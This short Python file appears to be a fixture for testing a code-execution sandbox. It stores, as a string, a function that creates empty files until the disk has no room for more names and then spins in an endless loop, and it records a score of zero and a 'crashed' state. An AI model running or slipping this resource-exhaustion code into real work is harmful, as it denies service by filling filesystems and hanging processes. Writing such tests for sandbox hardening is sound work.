"""Makes files until the disk has room for no more names."""

CELLS = {
    "slope": """
import os
def slope(f, x):
    for number in range(10**9):
        try:
            os.close(os.open(f"hoard-{number}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            while True:
                pass
"""
}
OTHERS = "right"
SCORE = {"slope": 0}
STATE = "crashed"
